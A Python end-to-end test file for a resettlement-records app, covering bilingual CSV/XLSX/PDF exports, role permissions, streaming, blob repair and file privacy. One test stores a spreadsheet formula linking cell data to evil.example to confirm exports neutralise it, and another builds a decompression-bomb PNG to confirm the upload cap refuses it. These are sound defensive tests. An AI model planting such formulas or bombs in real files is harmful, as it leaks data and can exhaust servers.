"""End-to-end tests of exports and of the blob store's upkeep: every export (worklists,
employment report, dossier and label PDFs, CLI) in both languages, marked with who made it
and when, refused to roles that may not export, formula cells neutralised, long lists in
bounded memory; a damaged blob repaired by re-uploading it or by `fsck --repair --from`,
orphans reported and removed, a running server's half-sent upload surviving a CLI command,
private file modes, and the picture pixel cap.

usage: test_exports.py PATH/TO/anju
XLSX files are read back with Debian's python3-openpyxl, PDFs with poppler-utils.
"""
import calendar
import csv
import io
import json
import os
import re
import shutil
import socket
import sqlite3
import stat
import struct
import subprocess
import sys
import time
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import Runner, Server, expect, id_number, PASSWORD, form_multipart  # noqa: E402

RULES = ["zero_employment", "idle_labor", "training_target", "child_not_enrolled",
         "no_medical_insurance", "no_pension_insurance", "archive_incomplete", "step_overdue",
         "visit_overdue"]
EN = {"Accept-Language": "en"}
ZH = {"Accept-Language": "zh-CN,zh;q=0.9"}
BOUNDARY = "anjuExportBoundary0x7MA4YWxk"

# One small demo county, shared by the servers below (one at a time).
S = Server(env={"ANJU_REQUEST_MEMORY": str(192 * 1024)})
S.cli("demo", "--persons", "3000")
S.add_user("volunteer1", "volunteer", "520628002030")
S.add_user("auditor1", "auditor")
S.start()
ADMIN = S.login("admin", "songtao2019")


def get(path, token=ADMIN, headers=None):
    return S.request("GET", path, token=token, headers=headers)


def read_xlsx(data):
    """{sheet title: [rows]} and the document's creator, read by openpyxl (not our writer)."""
    path = os.path.join(S.dir, "read.xlsx")
    with open(path, "wb") as f:
        f.write(data)
    r = subprocess.run(["/usr/bin/python3", "-c", """
import json, sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1], read_only=True)
print(json.dumps({"creator": wb.properties.creator, "sheets": [[ws.title, [list(r) for r in ws.iter_rows(values_only=True)]] for ws in wb.worksheets]}, ensure_ascii=False, default=str))
""", path], capture_output=True, text=True)
    expect(r.returncode == 0, "openpyxl reads it: %s" % r.stderr[-500:])
    return json.loads(r.stdout)


def read_csv(data):
    expect(data.startswith(b"\xef\xbb\xbf"), "CSV with a byte-order mark")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def tmp_files():
    return sorted(os.listdir(os.path.join(S.dir, "data", "tmp")))


def counts():
    return {x["rule"]: x["count"] for x in get("/api/v1/worklists").json["items"]}


def disposition_ok(r, base, ext):
    cd = r.header("Content-Disposition") or ""
    m = re.search(r'filename="%s-admin-(\d{8})-(\d{6})\.%s"' % (re.escape(base), ext), cd)
    expect(m, "file name says who and when: %r" % cd)


# ------------------------------------------------------------------ worklists, both languages

def test_every_worklist_in_both_languages_as_xlsx_and_csv():
    n = counts()
    for rule in RULES:
        for lang, hdr, mark in (("en", EN, "Exported by 宋涛 (admin), "), ("zh", ZH, "由 宋涛 (admin) 导出，")):
            x = get("/api/v1/worklists/%s?format=xlsx" % rule, headers=hdr)
            expect(x.status == 200, "%s %s xlsx %r" % (rule, lang, x))
            disposition_ok(x, "worklist-" + rule, "xlsx")
            book = read_xlsx(x.body)
            title, rows = book["sheets"][0]
            expect(len(title) <= 31 and not set(title) & set("[]:*?/\\"), "a sheet name Excel takes %r" % title)
            expect(book["creator"] == "admin", "document author %r" % book["creator"])
            expect(rows[0][0].startswith(mark) and rows[0][0].endswith("+08:00"),
                   "first row: who and when, county time %r" % rows[0][0])
            expect(len(rows) - 2 == n[rule], "%s %s: every entry %d %d" % (rule, lang, len(rows) - 2, n[rule]))
            c = get("/api/v1/worklists/%s?format=csv" % rule, headers=hdr)
            expect(c.status == 200 and c.header("Content-Type").startswith("text/csv"), "csv %r" % c)
            disposition_ok(c, "worklist-" + rule, "csv")
            lines = read_csv(c.body)
            want = "Household" if lang == "en" else "户编号"
            expect(lines[0][0] == want, "%s header in %s: %r" % (rule, lang, lines[0]))
            expect(lines[0] == rows[1], "the same columns in CSV and XLSX")
            expect(len(lines) - 1 == n[rule], "%s csv: every entry" % rule)
    expect(tmp_files() == [], "no temporary file left: %r" % tmp_files())


# ------------------------------------------------------------------ every list download in words

# The raw-code patterns of the pages' checker (tests/browser/checkers.mjs: snakeCase,
# divisionCode): a code where its word belongs, a division's code where its name does.
SNAKE_CASE = re.compile(r"(?<![\w./-])[a-z][a-z0-9]*(?:_[a-z0-9]+)+(?![\w-]|[.:][\w/])")
DIVISION_CODE = re.compile(r"(?<!\d)5206\d{5}(?:\d{3})?(?!\d)")
UTC_INSTANT = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d(?::\d\d)?(?:\.\d+)?Z")
LOCAL_TIME = re.compile(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d \+08:00$")
TEMPLATES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "web", "templates")


def download_paths(get):
    """Every list download the pages link to, ids filled in."""
    hall = get("/api/v1/halls").json["items"][0]["id"]
    scheme = get("/api/v1/evaluations").json["items"][0]["id"]
    paths = ["/api/v1/service-requests", "/api/v1/petitions", "/api/v1/needs", "/api/v1/activities",
             "/api/v1/businesses", "/api/v1/evaluations", "/api/v1/evaluations/%d/results" % scheme,
             "/api/v1/facilities", "/api/v1/halls", "/api/v1/halls/%d/exhibits" % hall,
             "/api/v1/halls/%d/visits" % hall, "/api/v1/reports/participation", "/api/v1/reports/employment",
             "/api/v1/volunteers", "/audit/export"] + ["/api/v1/worklists/" + r for r in RULES]
    # a download link a template adds is in the list above (its ids as {{...}})
    linked = set()
    for name in os.listdir(TEMPLATES):
        with open(os.path.join(TEMPLATES, name), encoding="utf-8") as f:
            for m in re.finditer(r'href="(/[^"?]*)\?[^"]*format=(?:csv|xlsx)', f.read()):
                linked.add(re.sub(r"\{\{[^}]*\}\}", "ID", m.group(1)))
    covered = {re.sub(r"/\d+(?=/|$)", "/ID", p) for p in paths} | {"/api/v1/worklists/ID"}
    expect(linked and linked <= covered, "every linked download is checked: %r" % sorted(linked - covered))
    return paths


def raw_codes(head, rows):
    """The cells that show a code, a division code or a UTC instant instead of words. A
    division code may stand in a column labelled as one (代码) beside the name's (名称): the
    employment report's, for the statistics sent upwards."""
    coded = {i for i, h in enumerate(head) if str(h).endswith("代码")} if "名称" in head else set()
    bad = []
    for row in rows:
        for i, cell in enumerate(row):
            text = "" if cell is None else str(cell)
            if (SNAKE_CASE.search(text) or UTC_INSTANT.search(text)
                    or (DIVISION_CODE.search(text) and i not in coded)):
                bad.append(text)
    return bad


def test_every_list_download_is_in_words_and_county_time():
    # A second server on the same database and data folder, with the default request
    # memory: a page of these lists is more than the 192 KiB the memory tests above need.
    full = Server(db=S.db)
    os.symlink(os.path.join(S.dir, "data"), os.path.join(full.dir, "data"))
    full.start()
    tok = full.login("admin", "songtao2019")

    def get(path, headers=None):
        return full.request("GET", path, token=tok, headers=headers)

    seen_times = 0
    for path in download_paths(get):
        for fmt in ("csv", "xlsx"):
            r = get("%s?format=%s" % (path, fmt), headers=ZH)
            expect(r.status == 200, "%s %s: %r" % (path, fmt, r))
            # each table: its heading row and its rows (a sheet's first row is the mark)
            tables = ([read_csv(r.body)] if fmt == "csv"
                      else [sheet[1:] for _, sheet in read_xlsx(r.body)["sheets"]])
            expect(all(len(t) > 1 for t in tables), "%s %s has rows" % (path, fmt))
            for t in tables:
                bad = raw_codes(t[0], t[1:])
                expect(not bad, "%s %s: codes, not words, in %r" % (path, fmt, sorted(set(bad))[:10]))
                seen_times += sum(1 for row in t for c in row if c is not None and LOCAL_TIME.match(str(c)))
    expect(seen_times > 100, "times with the county's offset: %d" % seen_times)
    # the same moment as the API's UTC, in the county's time (Asia/Shanghai, +8 h)
    item = get("/api/v1/service-requests?limit=1").json["items"][0]
    at = time.strptime(item["received_at"], "%Y-%m-%dT%H:%M:%SZ")
    local = time.strftime("%Y-%m-%d %H:%M:%S +08:00", time.gmtime(calendar.timegm(at) + 8 * 3600))
    for fmt in ("csv", "xlsx"):
        r = get("/api/v1/service-requests?format=%s" % fmt, headers=ZH)
        rows = read_csv(r.body) if fmt == "csv" else read_xlsx(r.body)["sheets"][0][1][1:]
        head = rows[0]
        row = next(x for x in rows[1:] if str(x[0]) == str(item["id"]))
        expect(row[head.index("接件时间")] == local, "%s: received %r, not %r" % (fmt, row, local))
        expect(item["matter"] not in row and item["status"] not in row, "%s: codes in %r" % (fmt, row))
        late = get("/api/v1/service-requests?overdue=true&format=%s" % fmt, headers=ZH)
        rows = read_csv(late.body) if fmt == "csv" else read_xlsx(late.body)["sheets"][0][1][1:]
        expect(len(rows) > 1 and {x[rows[0].index("超期")] for x in rows[1:]} == {"是"},
               "%s: a yes/no in words, not an empty cell %r" % (fmt, rows[:2]))
        a = get("/audit/export?format=%s" % fmt, headers=ZH)
        rows = read_csv(a.body) if fmt == "csv" else read_xlsx(a.body)["sheets"][0][1][1:]
        col = rows[0].index("时间") if "时间" in rows[0] else [i for i, h in enumerate(rows[0]) if "时间" in h][0]
        expect(all(LOCAL_TIME.match(str(x[col])) for x in rows[1:]), "audit %s times %r" % (fmt, rows[1][col]))
    full.stop()


def test_export_language_from_query_and_cookie():
    c = get("/api/v1/worklists/idle_labor?format=csv&lang=en", headers=ZH)
    expect(read_csv(c.body)[0][0] == "Household", "?lang=en wins over Accept-Language")
    c = S.request("GET", "/api/v1/worklists/idle_labor?format=csv", token=ADMIN,
                  headers={"Accept-Language": "zh-CN", "Cookie": "anju_lang=en"})
    expect(read_csv(c.body)[0][0] == "Household", "the page's language cookie wins over Accept-Language")
    c = get("/api/v1/worklists/idle_labor?format=csv&lang=zh", headers=EN)
    expect(read_csv(c.body)[0][0] == "户编号", "?lang=zh")
    x = get("/api/v1/worklists/idle_labor?format=xlsx&lang=en")
    expect(read_xlsx(x.body)["sheets"][0][0] == "Labor force with neither job no",
           "an English name cut at 31 characters")


def test_employment_report_in_both_languages():
    for hdr, head, mark in ((EN, "Code", "Exported by 宋涛 (admin)"), (ZH, "代码", "由 宋涛 (admin) 导出")):
        x = get("/api/v1/reports/employment?format=xlsx", headers=hdr)
        expect(x.status == 200, "report xlsx %r" % x)
        disposition_ok(x, "employment-report", "xlsx")
        book = read_xlsx(x.body)
        expect(len(book["sheets"]) == 3, "three sheets")
        names = [s[0] for s in book["sheets"]]
        expect(len(set(n.lower() for n in names)) == 3 and all(len(n) <= 31 for n in names), "names %r" % names)
        for _, rows in book["sheets"]:
            expect(rows[0][0].startswith(mark) and rows[1][0] == head, "mark and head %r" % rows[:2])
        for i, table in enumerate(("county", "town", "community")):
            c = get("/api/v1/reports/employment?format=csv&table=" + table, headers=hdr)
            expect(c.status == 200 and read_csv(c.body)[0] == book["sheets"][i][1][1],
                   "report csv %s in the language of the request %r" % (table, c.body[:80]))
            disposition_ok(c, "employment-report", "csv")


def test_report_records_in_both_languages():
    n = get("/api/v1/reports/employment/records?figure=employed&limit=1").json["count"]
    expect(n > 200, "more records than one page (%d)" % n)
    for hdr, head in ((EN, "Household"), (ZH, "户编号")):
        c = get("/api/v1/reports/employment/records?figure=employed&format=csv", headers=hdr)
        expect(c.status == 200, "records csv %r" % c)
        disposition_ok(c, "records-employed", "csv")
        lines = read_csv(c.body)
        expect(lines[0][0] == head and len(lines) - 1 == n, "every record, %s head %r" % (head, lines[0]))
        expect(len({l[3] for l in lines[1:]}) == n, "no record twice across pages")
        x = get("/api/v1/reports/employment/records?figure=employed&format=xlsx", headers=hdr)
        rows = read_xlsx(x.body)["sheets"][0][1]
        expect(rows[1] == lines[0] and len(rows) - 2 == n, "xlsx the same %r" % rows[:2])
    r = get("/api/v1/reports/employment/records?figure=nonsense&format=csv")
    expect(r.status == 422 and r.json["status"] == 422, "unknown figure %r" % r)


def pdf_text(data):
    path = os.path.join(S.dir, "read.pdf")
    with open(path, "wb") as f:
        f.write(data)
    text = subprocess.run(["pdftotext", path, "-"], capture_output=True, text=True).stdout
    info = subprocess.run(["pdfinfo", path], capture_output=True, text=True).stdout
    return text, info


def test_dossier_and_label_pdfs_carry_the_mark_in_both_languages():
    hid = get("/api/v1/households?limit=1").json["items"][0]["id"]
    for kind in ("dossier", "label"):
        for hdr, mark in ((EN, "Exported by 宋涛 (admin)"), (ZH, "由 宋涛 (admin) 导出")):
            r = get("/api/v1/households/%d/%s.pdf" % (hid, kind), headers=hdr)
            expect(r.status == 200 and r.body[:4] == b"%PDF", "%s %r" % (kind, r))
            disposition_ok(r, "household-%d-%s" % (hid, kind), "pdf")
            text, info = pdf_text(r.body)
            expect(mark in text and "+08:00" in text, "%s footer %r" % (kind, text[-300:]))
            expect(re.search(r"Author:\s+admin", info), "%s author %r" % (kind, info))


def test_cli_exports_in_both_languages():
    for lang, head, mark in (("en", "Household", "Exported by "), ("zh_CN.UTF-8", "户编号", "导出")):
        env = dict(S.env, ANJU_LANG=lang)
        out = os.path.join(S.dir, "cli-%s.xlsx" % lang[:2])
        r = subprocess.run([sys.argv[1] if len(sys.argv) > 1 else "build/anju", "--db", S.db, "--data",
                            os.path.join(S.dir, "data"), "report", "followup", "--list", "archive_incomplete",
                            "--format", "xlsx", "--output", out], capture_output=True, text=True, env=env)
        expect(r.returncode == 0, "cli xlsx %s" % r.stderr)
        with open(out, "rb") as f:
            book = read_xlsx(f.read())
        rows = book["sheets"][0][1]
        expect(mark in rows[0][0] and "(cli)" in rows[0][0] and rows[1][0] == head, "cli mark %r" % rows[:2])
        expect(len(rows) - 2 == counts()["archive_incomplete"], "every entry from the CLI")
        r = subprocess.run([sys.argv[1] if len(sys.argv) > 1 else "build/anju", "--db", S.db, "--data",
                            os.path.join(S.dir, "data"), "report", "followup", "--list", "archive_incomplete",
                            "--format", "csv"], capture_output=True, env=env)
        lines = read_csv(r.stdout)
        expect(lines[0][0] == head and len(lines) - 1 == counts()["archive_incomplete"], "cli csv %r" % lines[:1])
        out = os.path.join(S.dir, "cli-report-%s.xlsx" % lang[:2])
        r = subprocess.run([sys.argv[1] if len(sys.argv) > 1 else "build/anju", "--db", S.db, "--data",
                            os.path.join(S.dir, "data"), "report", "employment", "--format", "xlsx",
                            "--output", out], capture_output=True, text=True, env=env)
        with open(out, "rb") as f:
            book = read_xlsx(f.read())
        expect(r.returncode == 0 and len(book["sheets"]) == 3 and mark in book["sheets"][0][1][0][0],
               "cli report xlsx %r" % book["sheets"][0][1][:1])
        st = os.stat(out)
        expect(stat.S_IMODE(st.st_mode) == 0o600, "a CLI export is private: %o" % st.st_mode)
        r = subprocess.run([sys.argv[1] if len(sys.argv) > 1 else "build/anju", "--db", S.db, "--data",
                            os.path.join(S.dir, "data"), "report", "employment", "--list", "employed",
                            "--format", "csv"], capture_output=True, env=env)
        lines = read_csv(r.stdout)
        n = get("/api/v1/reports/employment/records?figure=employed&limit=1").json["count"]
        expect(r.returncode == 0 and len(lines) - 1 == n and n > 500, "records from the CLI, paged %d %d" % (len(lines), n))


# ------------------------------------------------------------------ who may export

def test_export_permission_by_role():
    vol = S.login("volunteer1")
    hid = get("/api/v1/households?limit=1").json["items"][0]["id"]
    for path in ("/api/v1/worklists/idle_labor?format=csv", "/api/v1/worklists/idle_labor?format=xlsx",
                 "/api/v1/reports/employment?format=xlsx", "/api/v1/households/%d/dossier.pdf" % hid,
                 "/api/v1/households/%d/label.pdf" % hid, "/api/v1/households/%d/bag" % hid):
        r = get(path, token=vol)
        expect(r.status == 403 and r.header("Content-Type") == "application/problem+json"
               and r.json["status"] == 403, "volunteer may not export %s: %r" % (path, r))
    expect(get("/api/v1/worklists/idle_labor", token=vol).status == 200, "but may read the list")
    aud = S.login("auditor1")
    r = get("/api/v1/worklists/idle_labor?format=csv", token=aud)
    expect(r.status == 200 and "auditor1" in r.header("Content-Disposition"), "an auditor may %r" % r)


# ------------------------------------------------------------------ a worklist to plan a round

def test_a_worklist_export_plans_a_round_in_words():
    """Issue 12, items 4 and 11: the XLSX has a filter on every column, the address, room and
    phone of each household (masked for whom the export masks), places and details in words."""
    path = os.path.join(S.dir, "round.xlsx")
    with open(path, "wb") as f:
        f.write(get("/api/v1/worklists/archive_incomplete?format=xlsx", headers=ZH).body)
    r = subprocess.run(["/usr/bin/python3", "-c", """
import json, sys, openpyxl
ws = openpyxl.load_workbook(sys.argv[1]).worksheets[0]
print(json.dumps({"filter": ws.auto_filter.ref, "rows": [list(r) for r in ws.iter_rows(values_only=True)]},
                 ensure_ascii=False, default=str))
""", path], capture_output=True, text=True)
    expect(r.returncode == 0, "openpyxl: %s" % r.stderr[-500:])
    book = json.loads(r.stdout)
    head, rows = book["rows"][1], book["rows"][2:]
    expect(rows and book["filter"] == "A2:J%d" % (len(rows) + 2), "a filter over the head and every row %r" % book["filter"])
    expect(head[-3:] == ["住址", "房号", "联系电话"], "address, room and phone columns %r" % head)
    db = sqlite3.connect(S.db)
    by_number = {n: (p, c) for n, p, c in db.execute("SELECT number, phone, dest_community FROM households")}
    names = dict(db.execute("SELECT code, short_name FROM divisions"))
    db.close()
    col = {k: head.index(k) for k in head}
    for row in rows:
        phone, community = by_number[row[0]]
        expect(row[col["联系电话"]] == phone, "the household's phone, whole for an admin %r" % row)
        expect(not community or row[col["住址"]].startswith(names[community]), "the community by name %r" % row)
        for k in ("迁出乡镇", "安置社区"):
            expect(not row[col[k]] or not re.search(r"\d{9}", row[col[k]]), "%s by name, not code %r" % (k, row))
        expect(not re.search(r"[a-z]_[a-z]", row[col["情况"]]), "missing documents by name %r" % row[col["情况"]])
    aud = S.login("auditor1")
    lines = read_csv(get("/api/v1/worklists/archive_incomplete?format=csv", token=aud, headers=ZH).body)
    phones = [l[lines[0].index("联系电话")] for l in lines[1:] if l[lines[0].index("联系电话")]]
    expect(phones and all("*" in p for p in phones), "masked for an auditor %r" % phones[:3])


# ------------------------------------------------------------------ formula injection, partial PUT

def test_formula_cells_are_neutralised_and_a_steps_put_replaces():
    hid = next(e["household_id"] for e in get("/api/v1/worklists/archive_incomplete?limit=5").json["items"])
    full = {"responsible_person": "龙主任", "responsible_phone": "13800001111",
            "village_command": "村指挥部", "town_command": "镇指挥部",
            "items": [{"step": "registration", "done_date": "2019-03-01", "done_by": "村干部"}]}
    r = S.request("PUT", "/api/v1/households/%d/steps" % hid, full, token=ADMIN, headers={"If-Match": "*"})
    expect(r.status == 200, "steps %r" % r)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    r = S.request("PUT", "/api/v1/households/%d/steps" % hid, {"responsible_person": evil, "items": []},
                  token=ADMIN, headers={"If-Match": "*"})
    expect(r.status == 200, "steps replaced %r" % r)
    now = get("/api/v1/households/%d/steps" % hid).json
    for k in ("responsible_phone", "village_command", "town_command"):
        expect(now[k] is None, "a PUT replaces: %s not sent is gone %r" % (k, now[k]))
    expect(now["responsible_person"] == evil, "and holds what it names")
    expect(all(s["done_date"] is None for s in now["items"]), "an empty list clears the steps %r" % now["items"])
    number = get("/api/v1/households/%d" % hid).json["number"]
    lines = read_csv(get("/api/v1/worklists/archive_incomplete?format=csv").body)
    row = next(l for l in lines if l[0] == number)
    col = lines[0].index("Responsible person")
    expect(row[col] == "'" + evil, "CSV cell neutralised %r" % row[col])
    rows = read_xlsx(get("/api/v1/worklists/archive_incomplete?format=xlsx").body)["sheets"][0][1]
    row = next(r for r in rows[2:] if r[0] == number)
    expect(row[col] == "'" + evil, "XLSX cell neutralised %r" % row[col])
    # numbers stay numbers: the report's figures are numbers in the workbook
    book = read_xlsx(get("/api/v1/reports/employment?format=xlsx").body)
    figures = [v for r in book["sheets"][0][1][2:] for v in r if isinstance(v, (int, float))]
    expect(figures, "figures are written as numbers")
    r = S.request("PUT", "/api/v1/households/%d/steps" % hid, {"responsible_person": None, "items": []},
                  token=ADMIN, headers={"If-Match": "*"})
    expect(r.status == 200 and get("/api/v1/households/%d/steps" % hid).json["responsible_person"] is None,
           "null clears %r" % r)


# ------------------------------------------------------------------ long lists, bounded memory

def test_a_long_list_streams_within_request_memory():
    # The server runs with request_memory 192 KiB; the whole list is larger than that.
    n = counts()["training_target"]
    c = get("/api/v1/worklists/training_target?format=csv")
    expect(c.status == 200 and c.header("Transfer-Encoding") == "chunked", "streamed %r" % c)
    expect(len(c.body) > 192 * 1024 or n > 3 * 200, "a list longer than a few pages (%d rows, %d bytes)" % (n, len(c.body)))
    lines = read_csv(c.body)
    expect(len(lines) - 1 == n, "every entry streamed %d %d" % (len(lines) - 1, n))
    numbers = [l[0] for l in lines[1:]]
    expect(len(numbers) == n, "no page twice or missing")
    x = get("/api/v1/worklists/training_target?format=xlsx")
    rows = read_xlsx(x.body)["sheets"][0][1]
    expect(len(rows) - 2 == n, "xlsx has every entry")
    expect(get("/healthz").status == 200 and tmp_files() == [], "server well, nothing left in tmp")


def test_a_page_over_request_memory_is_a_clear_error():
    # A second server on the same database and data folder, with a request memory smaller
    # than one page of the list.
    small = Server(db=S.db, env={"ANJU_REQUEST_MEMORY": str(16 * 1024)})
    data = os.path.join(S.dir, "data")
    os.symlink(data, os.path.join(small.dir, "data"))
    small.start()
    tok = small.login("admin", "songtao2019")
    for fmt in ("csv", "xlsx"):
        r = small.request("GET", "/api/v1/worklists/training_target?format=" + fmt, token=tok)
        expect(r.status == 413 and r.header("Content-Type") == "application/problem+json"
               and r.json["status"] == 413, "%s over request memory: %r" % (fmt, r))
    expect(small.request("GET", "/api/v1/worklists/step_overdue?format=csv", token=tok).status == 200,
           "a short list still exports")
    expect(small.request("GET", "/healthz").status == 200, "the server lives on")
    expect(sorted(os.listdir(os.path.join(data, "tmp"))) == [], "no temporary file left")
    small.stop()


# ------------------------------------------------------------------ blob store upkeep

def png(width=8, height=6, seed=0):
    rows = b"".join(b"\x00" + bytes(v for x in range(width)
                                    for v in ((x * 40 + seed) % 256, (y * 40) % 256, (seed * 7) % 256))
                    for y in range(height))

    def chunk(kind, data):
        c = struct.pack(">I", len(data)) + kind + data
        return c + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def huge_png(side):
    """A real side x side one-bit PNG: tiny compressed, side*side pixels decoded."""
    z = zlib.compressobj(9)
    row = b"\x00" + b"\xff" * ((side + 7) // 8)
    idat = b"".join(z.compress(row) for _ in range(side)) + z.flush()

    def chunk(kind, data):
        c = struct.pack(">I", len(data)) + kind + data
        return c + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


def multipart(fields, files):
    return form_multipart(fields, files, BOUNDARY)


def upload(hid, data, title="照片"):
    return S.request("POST", "/api/v1/households/%d/items" % hid,
                     raw=multipart({"title": title, "doc_type": "other"}, [("file", "p.png", data, "image/png")]),
                     token=ADMIN, content_type="multipart/form-data; boundary=" + BOUNDARY)


def blob_path(sha):
    return os.path.join(S.dir, "data", "blobs", sha[:2], sha[2:4], sha)


def a_household():
    return get("/api/v1/households?limit=3").json["items"][2]["id"]


def test_reuploading_repairs_a_damaged_blob():
    hid = a_household()
    data = png(seed=41)
    r = upload(hid, data)
    expect(r.status == 201, "upload %r" % r)
    sha = r.json["files"][0]["sha256"]
    for damage in ("same size", "truncated"):
        with open(blob_path(sha), "r+b") as f:
            if damage == "same size":
                f.seek(30)
                f.write(b"Z")
            else:
                f.truncate(len(data) // 2)
        bad = S.cli("fsck", check=False)
        expect(bad.returncode == 1 and "CORRUPTED " + sha in bad.stdout, "fsck sees it (%s) %r" % (damage, bad.stdout))
        r = upload(hid, data, "同一文件再传")
        expect(r.status == 201 and r.json["files"][0]["sha256"] == sha, "re-upload %r" % r)
        with open(blob_path(sha), "rb") as f:
            expect(f.read() == data, "the stored bytes are right again (%s)" % damage)
        ok = S.cli("fsck", check=False)
        expect(ok.returncode == 0 and "0 missing, 0 corrupted" in ok.stdout, "fsck clean after %s: %r" % (damage, ok.stdout))
    expect(get("/api/v1/files/%d" % r.json["files"][0]["id"]).body == data, "served right")


def test_fsck_repair_restores_from_a_copy_and_removes_orphans():
    hid = a_household()
    data = png(seed=77)
    sha = upload(hid, data).json["files"][0]["sha256"]
    spare = os.path.join(S.dir, "spare")
    os.makedirs(spare, exist_ok=True)
    with open(os.path.join(spare, sha), "wb") as f:
        f.write(data)
    os.remove(blob_path(sha))
    r = S.cli("fsck", "--repair", check=False)
    expect(r.returncode == 1 and "MISSING " + sha in r.stdout, "without a copy it stays missing %r" % r.stdout)
    r = S.cli("fsck", "--repair", "--from", spare, check=False)
    expect(r.returncode == 0 and "RESTORED " + sha in r.stdout and "0 missing, 0 corrupted" in r.stdout,
           "restored from the copy %r" % r.stdout)
    # an orphan: a blob file no row names (what a crash between link and commit leaves)
    orphan = png(seed=200)
    import hashlib
    osha = hashlib.sha256(orphan).hexdigest()
    os.makedirs(os.path.dirname(blob_path(osha)), exist_ok=True)
    with open(blob_path(osha), "wb") as f:
        f.write(orphan)
    r = S.cli("fsck", check=False)
    expect(osha not in r.stdout and r.returncode == 0, "a new file may be an upload in flight: not judged yet %r" % r.stdout)
    r = S.cli("fsck", "--orphan-age", "0", check=False)
    expect("ORPHAN " + osha in r.stdout and "1 orphans (0 removed)" in r.stdout and os.path.exists(blob_path(osha)),
           "reported, not removed %r" % r.stdout)
    r = S.cli("fsck", "--repair", "--orphan-age", "0", check=False)
    expect("REMOVED ORPHAN " + osha in r.stdout and not os.path.exists(blob_path(osha)), "removed %r" % r.stdout)
    expect(os.path.exists(blob_path(sha)), "a blob in use stays")
    r = S.cli("fsck", "--orphan-age", "0", check=False)
    expect("0 orphans" in r.stdout, "none left %r" % r.stdout)


def test_a_half_sent_upload_survives_a_cli_command():
    hid = a_household()
    data = png(width=64, height=64, seed=5)
    body = multipart({"title": "慢慢上传", "doc_type": "other"}, [("file", "slow.png", data, "image/png")])
    head = ("POST /api/v1/households/%d/items HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n"
            "Content-Type: multipart/form-data; boundary=%s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
            % (hid, ADMIN, BOUNDARY, len(body))).encode()
    sock = socket.create_connection(("127.0.0.1", S.port), timeout=60)
    sock.sendall(head + body[:len(body) - 300])
    for _ in range(100):
        if any(n.startswith("upload-") for n in tmp_files()):
            break
        time.sleep(0.05)
    before = [n for n in tmp_files() if n.startswith("upload-")]
    expect(before and all(re.match(r"upload-\d+-", n) for n in before), "the temp file names its owner %r" % before)
    S.cli("user", "list")
    expect(all(n in tmp_files() for n in before), "a CLI command leaves a live upload alone %r" % tmp_files())
    sock.sendall(body[len(body) - 300:])
    import http.client
    resp = http.client.HTTPResponse(sock, method="POST")
    resp.begin()
    out = resp.read()
    sock.close()
    expect(resp.status == 201, "the upload completes %d %r" % (resp.status, out[:200]))
    # a temp file of a process that is gone is swept by the next command
    dead = os.path.join(S.dir, "data", "tmp", "upload-999999999-abcdef")
    open(dead, "w").close()
    S.cli("user", "list")
    expect(not os.path.exists(dead), "a dead process's temp file goes")


def test_picture_over_the_pixel_cap_is_refused():
    hid = a_household()
    db = sqlite3.connect(S.db)
    before = (db.execute("SELECT count(*) FROM items").fetchone()[0], db.execute("SELECT count(*) FROM blobs").fetchone()[0])
    blobs_before = sum(len(f) for _, _, f in os.walk(os.path.join(S.dir, "data", "blobs")))
    bomb = huge_png(30000)
    t0 = time.time()
    r = upload(hid, bomb, "巨图")
    took = time.time() - t0
    expect(r.status == 422 and r.json["status"] == 422 and "picture_too_large" in r.field_codes().values(),
           "refused %r" % r)
    after = (db.execute("SELECT count(*) FROM items").fetchone()[0], db.execute("SELECT count(*) FROM blobs").fetchone()[0])
    db.close()
    expect(after == before, "no row %r %r" % (before, after))
    expect(sum(len(f) for _, _, f in os.walk(os.path.join(S.dir, "data", "blobs"))) == blobs_before, "no blob")
    left = tmp_files()
    for _ in range(100):    # removed as the request completes, just after its answer is sent
        if not left:
            break
        time.sleep(0.05)
        left = tmp_files()
    expect(left == [], "no temp file %r" % left)
    print("  (30,000 x 30,000 picture, %d bytes, refused in %.2f s)" % (len(bomb), took))


def test_files_are_private():
    S.cli("backup", os.path.join(S.dir, "backup.db"))
    data = os.path.join(S.dir, "data")
    for p in (S.db, S.db + "-wal", S.db + "-shm", os.path.join(S.dir, "backup.db")):
        if os.path.exists(p):
            expect(stat.S_IMODE(os.stat(p).st_mode) == 0o600, "%s is 0600: %o" % (p, os.stat(p).st_mode))
    expect(os.path.exists(S.db + "-wal"), "the -wal file is there to check")
    for d in (data, os.path.join(data, "blobs"), os.path.join(data, "tmp")):
        expect(stat.S_IMODE(os.stat(d).st_mode) == 0o700, "%s is 0700: %o" % (d, os.stat(d).st_mode))
    for root, dirs, files in os.walk(os.path.join(data, "blobs")):
        for f in files[:3]:
            expect(stat.S_IMODE(os.stat(os.path.join(root, f)).st_mode) & 0o077 == 0, "blob private")


if __name__ == "__main__":
    Runner().run_module(globals(), S)
